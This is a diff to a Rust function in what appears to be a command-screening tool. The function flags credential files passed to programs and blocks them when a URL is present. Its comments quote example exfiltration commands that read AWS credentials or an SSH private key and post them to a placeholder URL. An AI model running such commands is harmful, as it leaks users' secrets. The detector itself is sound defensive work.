@@ -257,17 +257,13 @@ fn sends_credential(
     })
 }
 
-/// A credential store named inside an argument's text, not as a word of its own: code given
-/// to a program nobody models (`jello 'urlopen(URL, data=open("/home/dev/.aws/credentials")…'`,
-/// `conky -t '${exec cat ~/.aws/credentials}'`). With a URL beside it, it is sent somewhere: a
-/// block; alone, a person decides.
+/// A credential store a program nobody models is given, as a word, an option's value or
+/// inside code (`qrencode -r ~/.ssh/id_ed25519`, `jello 'urlopen(URL,
+/// data=open("/home/dev/.aws/credentials")…'`, `conky -t '${exec cat ~/.aws/credentials}'`).
+/// With a URL beside it, it is sent somewhere (`w3m -post ~/.aws/credentials URL`): a block;
+/// alone, a person decides, and piped into a sender it is sent (judge.rs, `credential_sent`).
 fn credential_in_text(c: &Cmd<'_>, ctx: &Context, raw: &str) -> Option<Decision> {
-    let texts = || {
-        c.args
-            .iter()
-            .filter_map(|a| a.text.as_deref())
-            .filter(|t| t.contains(char::is_whitespace) || t.contains(['(', '"', '\'']))
-    };
+    let texts = || c.args.iter().filter_map(|a| a.text.as_deref());
     let named = texts().find_map(|t| {
         t.split(|ch: char| {
             ch.is_whitespace()
